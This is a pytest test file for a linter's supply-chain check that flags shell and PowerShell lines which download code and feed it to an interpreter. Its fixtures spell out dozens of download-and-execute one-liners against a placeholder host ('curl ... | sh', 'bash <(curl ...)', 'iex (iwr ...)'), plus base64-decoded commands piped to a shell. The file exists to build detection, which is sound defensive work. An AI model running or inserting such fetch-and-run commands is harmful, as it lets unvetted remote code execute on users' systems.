"""What an interpreter is fed with: every form of a download that runs, and what only looks like one."""

from __future__ import annotations

import pytest

from orbgen.lint.analyses.supply_chain.fed_code import fed_by_powershell, fed_code
from orbgen.shell.script import read_script


def fed(text: str) -> list[tuple[str, str, str | None]]:
    return [(one.kind, one.interpreter, one.host) for one in fed_code(read_script(text))]


@pytest.mark.parametrize(
    ("text", "interpreter"),
    [
        ("curl -s https://a.b/x | sh", "sh"),
        ("curl -s https://a.b/x | sudo -E bash -", "bash"),
        ("curl -s https://a.b/x | \\\n  env A=1 bash -s -- -y", "bash"),
        ("wget -qO- https://a.b/x | tee log | zsh", "zsh"),
        ("wget -q -O - https://a.b/x | python3 -", "python3"),
        ("curl -s https://a.b/x | python3 - --version 1", "python3"),
        ("curl -o - https://a.b/x | perl", "perl"),
        ("curl https://a.b/x | node", "node"),
        ("curl https://a.b/x | pwsh -Command -", "pwsh"),
        ("curl https://a.b/x | bash /dev/stdin --yes", "bash"),
        ("curl https://a.b/x | gunzip | bash", "bash"),
        ("if ! curl https://a.b/x | bash; then exit 1; fi", "bash"),
        ("for x in 1 2; do curl https://a.b/x; done | bash", "bash"),
        ("bash -x <(curl https://a.b/x) --yes", "bash"),
        (". <(curl https://a.b/x)", "."),
        ("bash < <(curl https://a.b/x)", "bash"),
        ('bash <<< "$(curl https://a.b/x)"', "bash"),
        ('echo "$(curl https://a.b/x)" | bash', "bash"),
        ("eval `curl https://a.b/x`", "eval"),
        ('sudo sh -ec "$(curl https://a.b/x)"', "sh"),
        ('ruby -e "$(curl https://a.b/x)"', "ruby"),
        ('x=$(curl https://a.b/x)\neval "$x"', "eval"),
        ("sudo bash -c 'curl https://a.b/x | sh'", "sh"),
        ("docker exec c sh -c 'apk add curl && curl https://a.b/x | sh'", "sh"),
        ("U=https://a.b; curl $U/x | sh", "sh"),
        ("pwsh -Command 'iex (iwr https://a.b/x)'", "Invoke-Expression"),
    ],
)
def test_a_download_that_runs(text: str, interpreter: str):
    assert fed(text) == [("remote", interpreter, "a.b")]


@pytest.mark.parametrize(
    "text",
    [
        "echo ZWNobw== | base64 -d | sh",
        "base64 --decode <<< ZWNobw== | bash",
        "cat <<'E' | xxd -r -p | bash\n6563686f\nE\n",
        "bash <(echo ZWNobw== | openssl enc -base64 -d)",
        'eval "$(echo ZWNobw== | base64 -d)"',
    ],
)
def test_literal_text_that_is_decoded_and_runs(text: str):
    assert [kind for kind, _, _ in fed(text)] == ["decoded"]


@pytest.mark.parametrize(
    "text",
    [
        "curl -o x https://a.b/x | bash",
        "curl -sO https://a.b/x | bash",
        "curl https://a.b/x > x | bash",
        "wget https://a.b/x | bash",
        "curl https://a.b/x | bash check.sh",
        "curl https://a.b/x | bash -c 'cat'",
        "curl https://a.b/x | python3 -c 'import json'",
        "curl https://a.b/x | python3 -mjson.tool",
        "curl https://a.b/x | perl -pe 's/a/b/'",
        "curl https://a.b/x | ssh host cat",
        "bash check.sh <(curl https://a.b/x)",
        "diff <(curl https://a.b/x) y",
        'psql -c "$(curl https://a.b/x)"',
        'test "$(curl https://a.b/x)" = ok',
        'x=$(curl https://a.b/x)\necho "$sum  $x" | sha256sum -c\neval "$x"',
        'eval "$x"\nx=$(curl https://a.b/x)',
        "curl https://a.b/x | (cd y; cat)",
        "cat y | (curl https://a.b/x; bash)",
        "(curl https://a.b/x > y; bash z) | bash -n z",
        'echo "$KEY" | base64 -d | bash',
        "echo ZWNobw== | base64 -d > x",
        "echo ZWNobw== | base64 | bash",
        "curl https://a.b/0123456789abcdef0123456789abcdef01234567/x | bash",
        "# curl https://a.b/x | bash",
        "echo 'curl https://a.b/x | bash'",
    ],
)
def test_what_only_looks_like_one(text: str):
    assert fed(text) == []


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("curl http://localhost:80/x | sh", "localhost"),
        ("curl localhost/x | sh", "localhost"),
        ('curl "https://a.b$PATH_OF_IT" | sh', None),
        ('curl "https://a.b/$PATH_OF_IT" | sh', "a.b"),
        ('curl "$URL" | sh', None),
        ("curl https://user:pw@A.b:443 | sh", "a.b"),
    ],
)
def test_the_host_is_named_where_it_is_known(text: str, host: str | None):
    assert [one.host for one in fed_code(read_script(text))] == [host]


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("iex ((New-Object System.Net.WebClient).DownloadString('https://a.b/x.ps1'))", 1),
        ("irm https://a.b/x.ps1 | iex", 1),
        ("cd c:\\\nInvoke-Expression (Invoke-WebRequest https://a.b/x)", 1),
        ("iwr https://a.b/x -OutFile x\niex ./x", 0),
        ("# irm https://a.b/x | iex", 0),
        ('Write-Host "irm https://a.b/x | iex"', 0),
    ],
)
def test_powershell(text: str, count: int):
    assert [one.host for one in fed_by_powershell(text)] == ["a.b"] * count
